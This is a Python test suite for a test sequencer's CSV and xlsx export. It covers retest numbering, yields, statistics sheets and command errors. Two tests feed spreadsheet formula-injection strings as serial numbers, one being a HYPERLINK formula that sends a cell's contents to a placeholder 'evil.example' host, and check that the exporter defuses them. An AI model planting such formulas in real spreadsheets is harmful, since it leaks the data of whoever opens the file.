"""Exports: the three tables, CSV and xlsx writers, and `sequencer export`."""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reports.render.export import (
    XLSX_MAX_ROWS,
    Export,
    ExportError,
    Table,
    check_fits_xlsx,
    export_tables,
    write_csv,
    write_csv_file,
    write_xlsx,
)
from sequencer.cli import main
from sequencer.records import MeasurementOutcome, Outcome, RunRecord
from tests import records_factory as rf
from tests.store_support import store_runs
from tests.strategies import runs as any_runs


def csv_rows(table: Table) -> list[dict[str, str]]:
    out = io.StringIO()
    write_csv(table, out)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def retested_batch() -> list[RunRecord]:
    """SN-1 fails its 3V3 rail, then passes on a retest; SN-2 passes marginally; SN-3 is still running."""
    return [
        rf.sensor_run("SN-1", vdd=3.45, started_at=rf.at(0)),
        rf.sensor_run("SN-2", vdd=3.36, started_at=rf.at(10), slot=1),
        rf.sensor_run("SN-1", started_at=rf.at(100)),
        rf.run(serial="SN-3", started_at=rf.at(200), outcome=None,
               phases=[rf.phase("identify", measurements=[rf.measurement("chip_id", "ESP32")])]),
    ]


# --- the tables -----------------------------------------------------------------------------------


def test_runs_table_has_a_row_per_run_and_a_column_per_scalar_measurement() -> None:
    runs = retested_batch()
    table = export_tables(reversed(runs))["runs"]  # any order in, oldest first out
    assert table.column("serial") == ["SN-1", "SN-2", "SN-1", "SN-3"]
    assert table.column("outcome") == ["FAIL", "PASS", "PASS", "RUNNING"]
    assert table.column("marginal") == [False, True, False, False]
    assert table.column("failed_phases") == ["power_rails", "", "", ""]
    assert table.column("power_rails.vdd_3v3 [V]") == [3.45, 3.36, 3.301, None]
    # the value of the attempt that decided the phase, not the failed first try
    assert table.column("flash_firmware.flash_verified") == [True, True, True, None]
    assert table.column("identify.chip_id")[3] == "ESP32"
    # identity beyond the serial: every key any run reported, absent where a run did not
    macs = {r.serial: r.dut["mac"] for r in runs if "mac" in r.dut}
    assert table.column("mac") == [macs["SN-1"], macs["SN-2"], macs["SN-1"], None]
    assert table.column("failed_phases") == ["power_rails", "", "", ""]
    # a series has no single value: it is in the measurements table, not a column here
    assert not [c for c in table.columns if "rssi_sweep" in c]
    assert table.column("duration_s")[0] == 24.9
    assert table.column("started_utc")[0] == rf.T0
    assert table.column("ended_utc")[3] is None


def test_retests_are_numbered_and_the_run_deciding_final_yield_is_marked() -> None:
    table = export_tables(retested_batch())["runs"]
    assert table.column("unit_run") == [1, 1, 2, 1]
    # SN-1's retest decides it; the running SN-3 has no verdict yet
    assert table.column("unit_final") == [False, True, True, False]


def test_identity_named_like_a_column_is_kept_apart() -> None:
    run = rf.run(serial="SN-9", dut={"serial": "SN-9", "port": "J3", "imei": "356938035643809"})
    table = export_tables([run])["runs"]
    assert table.column("port") == ["/dev/ttyUSB0"]  # the station's port
    assert table.column("dut.port") == ["J3"]  # what the device calls its port
    assert table.column("imei") == ["356938035643809"]


def test_measurements_table_holds_the_deciding_attempt_with_limits() -> None:
    rows = [r for r in csv_rows(export_tables(retested_batch())["measurements"]) if r["serial"] == "SN-1"]
    first = {r["measurement"]: r for r in rows if r["run_id"] == rows[0]["run_id"]}
    assert first["vdd_3v3"] == {**first["vdd_3v3"], "phase": "power_rails", "value": "3.45", "units": "V",
                                "outcome": "FAIL", "low": "3.2", "high": "3.4", "marginal_low": "3.25",
                                "marginal_high": "3.35", "reason": "3.45 is above 3.4"}
    assert first["flash_verified"]["attempt"] == "2"
    assert first["flash_verified"]["value"] == "True"
    # a series: its verdict and how many points, not the points
    assert first["rssi_sweep"]["value"] == ""
    assert first["rssi_sweep"]["points"] == "13"
    assert first["vdd_3v3"]["points"] == ""


def test_values_a_cell_cannot_hold_as_they_are_become_text() -> None:
    run = rf.run(phases=[rf.phase("odd", measurements=[
        rf.measurement("nan", math.nan, outcome=MeasurementOutcome.FAIL),
        rf.measurement("up", math.inf, outcome=MeasurementOutcome.FAIL),
        rf.measurement("down", -math.inf, outcome=MeasurementOutcome.FAIL),
        rf.measurement("never", None),
        rf.measurement("blob", {"a": [1, 2]}),
        rf.measurement("iccid", 89014108527670111820),  # beyond a double's exact integers
        rf.measurement("count", 2**53),
    ])])
    table = export_tables([run])["measurements"]
    assert table.column("value") == ["NaN", "Infinity", "-Infinity", None, '{"a":[1,2]}', "89014108527670111820",
                                     2**53]
    assert table.column("outcome") == ["FAIL", "FAIL", "FAIL", "UNSET", "PASS", "PASS", "PASS"]


def test_phases_table_names_errors_without_tracebacks() -> None:
    rows = csv_rows(export_tables([rf.sensor_run("SN-7", crash=True)])["phases"])
    by_name = {r["phase"]: r for r in rows}
    assert by_name["self_test"]["outcome"] == "ERROR"
    assert by_name["self_test"]["error"] == "DutProtocolError: self-test: no reply to 'selftest' within 2.0 s"
    assert by_name["rf_sweep"]["outcome"] == "SKIPPED"
    assert by_name["rf_sweep"]["reason"] == "dependency self_test did not pass"
    assert by_name["flash_firmware"]["attempts"] == "2"
    assert by_name["power_off"]["teardown"] == "True"
    assert by_name["power_rails"]["resource_wait_s"] == "0.85"
    assert "Traceback" not in "".join(str(v) for r in rows for v in r.values())


# --- CSV ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=HYPERLINK(\"http://evil\",\"x\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_csv_never_hands_a_spreadsheet_a_formula(text: str) -> None:
    row = csv_rows(export_tables([rf.run(serial=text)])["runs"])[0]
    assert row["serial"] == "'" + text


@given(serial=st.text(min_size=1), value=st.floats(allow_nan=False, allow_infinity=False))
def test_csv_keeps_any_text_and_every_number(serial: str, value: float) -> None:
    run = rf.run(serial=serial, phases=[rf.phase("p", measurements=[rf.measurement("m", value)])])
    row = csv_rows(export_tables([run])["runs"])[0]
    assert row["serial"] in (serial, "'" + serial)
    assert (row["serial"] == "'" + serial) == serial.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert float(row["p.m"]) == value  # a negative number is a number, never prefixed


# --- xlsx -----------------------------------------------------------------------------------------


def test_workbook_has_a_summary_and_a_sheet_per_table(tmp_path: Path) -> None:
    runs = retested_batch()
    path = write_xlsx(tmp_path / "b.xlsx", Export.of(runs), title="esp32_sensor — batch B")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Summary", "Runs", "Phases", "Measurements", "Statistics"]
    summary = {row[0]: row[1] for row in book["Summary"].iter_rows(values_only=True) if row and row[0]}
    assert summary["runs"] == 4
    assert summary["units"] == 3
    # SN-1 failed first then passed, SN-2 passed; SN-3 has no verdict yet
    assert summary["first-pass yield"] == pytest.approx(0.5)
    assert summary["final yield"] == 1
    assert summary["power_rails / vdd_3v3"] == 1
    # SN-1 failed then passed on slot 0, SN-2 passed on slot 1, SN-3 is still running on slot 0
    assert summary["line1-st03 slot 0 (1 / 2)"] == pytest.approx(0.5)
    assert summary["line1-st03 slot 1 (1 / 1)"] == 1
    sheet = book["Runs"]
    header = [c.value for c in sheet[1]]
    col = {name: i for i, name in enumerate(header)}
    first = sheet[2]
    assert first[col["serial"]].value == "SN-1"
    assert first[col["started_utc"]].value == dt.datetime(2024, 5, 14, 8, 30)  # UTC, as the header says
    assert first[col["power_rails.vdd_3v3 [V]"]].value == 3.45
    # how a value was judged shows as Excel's own good / neutral / bad colours
    assert first[col["power_rails.vdd_3v3 [V]"]].fill.start_color.rgb.endswith("FFC7CE")
    assert sheet[3][col["power_rails.vdd_3v3 [V]"]].fill.start_color.rgb.endswith("FFEB9C")
    assert sheet[4][col["outcome"]].fill.start_color.rgb.endswith("C6EFCE")
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}5"


def test_statistics_sheet_and_csv_hold_the_batch_pages_numbers(tmp_path: Path) -> None:
    from reports.quality.statistics import measurement_statistics

    runs = [rf.sensor_run(f"SN-{i}", vdd=3.30 + 0.03 * ((i * 7) % 5 - 2), started_at=rf.at(60 * i)) for i in range(12)]
    path = write_xlsx(tmp_path / "s.xlsx", Export.of(runs), title="B")
    sheet = openpyxl.load_workbook(path)["Statistics"]
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, (c.value for c in row), strict=True)) for row in sheet.iter_rows(min_row=2)]
    assert rows[0]["measurement"] == "vdd_3v3" and rows[0]["capable"] is False  # not capable: first
    [vdd] = [s for s in measurement_statistics(runs) if s.name == "vdd_3v3"]
    assert rows[0]["n"] == 12 and rows[0]["cpk"] == pytest.approx(vdd.capability.cpk)
    assert rows[0]["mean"] == pytest.approx(vdd.moments.mean) and rows[0]["sd"] == pytest.approx(vdd.moments.sd)
    assert (rows[0]["low"], rows[0]["high"], rows[0]["marginal_low"]) == (3.2, 3.4, 3.25)
    assert sheet.cell(2, header.index("cpk") + 1).fill.start_color.rgb.endswith("FFC7CE")
    by_csv = csv_rows(export_tables(runs)["statistics"])
    assert [r["measurement"] for r in by_csv] == [r["measurement"] for r in rows]
    assert float(by_csv[0]["ppk"]) == pytest.approx(vdd.capability.ppk)


def test_a_period_of_two_products_has_a_yield_per_product_never_one_across_them(tmp_path: Path) -> None:
    runs = [
        rf.run(serial="SN-1", started_at=rf.at(0), product="board_test", outcome=Outcome.PASS),
        rf.run(serial="SN-2", started_at=rf.at(10), product="board_test", outcome=Outcome.FAIL),
        rf.run(serial="SN-1", started_at=rf.at(20), product="final_test", product_version="2.0",
               limits_sha256="ab" * 32, outcome=Outcome.PASS),
    ]
    path = write_xlsx(tmp_path / "p.xlsx", Export.of(runs), title="period")
    summary = {row[0]: row[1] for row in openpyxl.load_workbook(path)["Summary"].iter_rows(values_only=True)
               if row and row[0]}
    assert "first-pass yield" not in summary  # no blended yield
    assert summary["board_test first-pass yield"] == pytest.approx(0.5)
    assert summary["final_test first-pass yield"] == 1
    assert summary["product final_test"] == "2.0"
    assert summary["units"] == 3
    table = export_tables(runs)["runs"]
    assert table.column("product") == ["board_test", "board_test", "final_test"]


def test_runs_table_names_the_unit_by_identity_and_keeps_errors_apart_from_failures() -> None:
    mac = "24:0a:c4:00:00:07"
    runs = [
        rf.run(serial=None, dut={"mac": mac}, started_at=rf.at(0),
               phases=[rf.phase("flash", Outcome.FAIL)]),  # failed before identify: no serial
        rf.run(serial="SN-7", dut={"serial": "SN-7", "mac": mac.upper()}, started_at=rf.at(50),
               phases=[rf.phase("identify", Outcome.ERROR, error=rf.ErrorInfo("DutProtocolError", "no reply"))]),
        rf.run(serial="SN-7", dut={"serial": "SN-7", "mac": mac}, started_at=rf.at(100)),
        rf.run(serial="SN-7", dut={"serial": "SN-7", "mac": "24:0a:c4:00:00:99"}, started_at=rf.at(150)),
    ]
    table = export_tables(runs)["runs"]
    assert table.column("unit_run") == [1, 2, 3, 1]  # the MAC-only run is SN-7's first test
    assert table.column("unit_final") == [False, False, True, True]
    assert table.column("failed_phases") == ["flash", "", "", ""]
    assert table.column("error_phases") == ["", "identify", "", ""]
    conflict = table.column("identity_conflict")
    assert conflict[:3] == [None, None, None] and "24:0a:c4:00:00:99" in conflict[3]


def test_workbook_stores_device_text_as_text_never_as_formula(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    pem = "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----\n"
    runs = [rf.run(serial=evil, dut={"serial": evil, "model": "bad\x00\x1bname\ufffe", "public_key": pem})]
    path = write_xlsx(tmp_path / "b.xlsx", Export.of(runs), title=evil)
    sheet = openpyxl.load_workbook(path)["Runs"]
    header = [c.value for c in sheet[1]]
    serial = sheet[2][header.index("serial")]
    assert (serial.value, serial.data_type) == (evil, "s")
    assert sheet[2][header.index("model")].value == "bad\\x00\\x1bname\\ufffe"
    assert sheet[2][header.index("public_key")].value == pem  # kept exactly, unlike in CSV
    assert openpyxl.load_workbook(path)["Summary"]["A1"].data_type == "s"


@settings(max_examples=40, deadline=None)
@given(runs=st.lists(any_runs, min_size=1, max_size=3))
def test_any_records_export_to_a_workbook_that_opens(tmp_path_factory: pytest.TempPathFactory,
                                                     runs: list[RunRecord]) -> None:
    tables = export_tables(runs)
    path = write_xlsx(tmp_path_factory.mktemp("x") / "any.xlsx", Export.of(runs), title="any")
    book = openpyxl.load_workbook(path)
    for name, table in tables.items():
        sheet = book[name.capitalize()]
        assert sheet.max_row == len(table.rows) + 1
        # every string comes back as text, whatever it held
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_a_table_too_big_for_a_worksheet_is_refused_with_what_to_do() -> None:
    big = Table("measurements", ("run_id",), (("r",),) * XLSX_MAX_ROWS)
    with pytest.raises(ExportError, match=r"measurements table has 1,048,576 rows.*-o FILE.csv --table measurements"):
        check_fits_xlsx([big])
    check_fits_xlsx([Table("measurements", ("run_id",), (("r",),) * (XLSX_MAX_ROWS - 1))])


def test_a_failed_write_leaves_the_previous_file_whole(tmp_path: Path) -> None:
    target = tmp_path / "b.csv"
    write_csv_file(target, export_tables([rf.run(serial="SN-1")])["runs"])
    before = target.read_bytes()

    class Unwritable:
        name = "runs"
        columns = ("a",)
        rows = ((_Explodes(),),)

    with pytest.raises(RuntimeError):
        write_csv_file(target, Unwritable)  # type: ignore[arg-type]
    assert target.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["b.csv"]


class _Explodes:
    def __str__(self) -> str:
        raise RuntimeError("disk went away")


# --- the command ----------------------------------------------------------------------------------


@pytest.fixture
async def store(tmp_path: Path) -> Path:
    path = tmp_path / "data" / "store.sqlite"
    await store_runs(path, [*retested_batch(), rf.sensor_run("SN-8", started_at=rf.at(300))])
    other = rf.sensor_run("SN-OTHER", started_at=rf.at(400))
    await store_runs(path, [rf.run(serial="SN-OTHER", batch="B2", phases=other.phases, dut=other.dut,
                                   started_at=other.started_at)])
    return path


async def test_export_of_a_batch_goes_beside_its_reports(store: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--store", str(store), "--batch", "B2024-05-14"]) == 0
    path = Path(capsys.readouterr().out.strip())
    assert path == store.parent / "reports" / "B2024-05-14" / "B2024-05-14.xlsx"
    runs = openpyxl.load_workbook(path)["Runs"]
    assert [r[2] for r in runs.iter_rows(min_row=2, values_only=True)] == ["SN-1", "SN-2", "SN-1", "SN-3", "SN-8"]


async def test_export_csv_of_one_table_with_filters(store: Path, tmp_path: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "fails.csv"
    assert main(["export", "--store", str(store), "--outcome", "FAIL", "--table", "measurements",
                 "-o", str(out)]) == 0
    assert capsys.readouterr().out.strip() == str(out)
    with out.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert {r["serial"] for r in rows} == {"SN-1"}
    assert [r["outcome"] for r in rows if r["measurement"] == "vdd_3v3"] == ["FAIL"]


async def test_export_csv_to_stdout(store: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--store", str(store), "--serial", "SN-1", "-o", "-", "--table", "phases"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert len(rows) == 2 * 6
    assert {r["serial"] for r in rows} == {"SN-1"}


@pytest.mark.parametrize(("args", "message"), [
    (["--batch", "NOPE"], "no runs with batch 'NOPE' in "),
    ([], "export: give -o FILE (.xlsx, .csv or .xml), or --batch B"),
    (["-o", "x.ods"], "x.ods: an export is .xlsx (a summary and every table), .csv (one table) or .xml (JUnit XML"),
    (["-o", "x.xlsx", "--table", "phases"], "x.xlsx: --table picks the one table a CSV holds"),
    (["--batch", "B2", "-o", "/proc/x.xlsx"], "/proc/x.xlsx: cannot write the export: "),
])
async def test_bad_export_requests_exit_2_with_one_line(store: Path, args: list[str], message: str,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--store", str(store), *args]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"sequencer: error: {message}")
    assert err.count("\n") == 1


async def test_export_in_a_folder_that_is_a_file_names_it(store: Path, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "taken").write_text("")
    target = tmp_path / "taken" / "b.csv"
    assert main(["export", "--store", str(store), "--batch", "B2", "-o", str(target)]) == 2
    assert capsys.readouterr().err.strip() == (
        f"sequencer: error: {target}: cannot write the export: not a directory: {tmp_path / 'taken'}"
    )
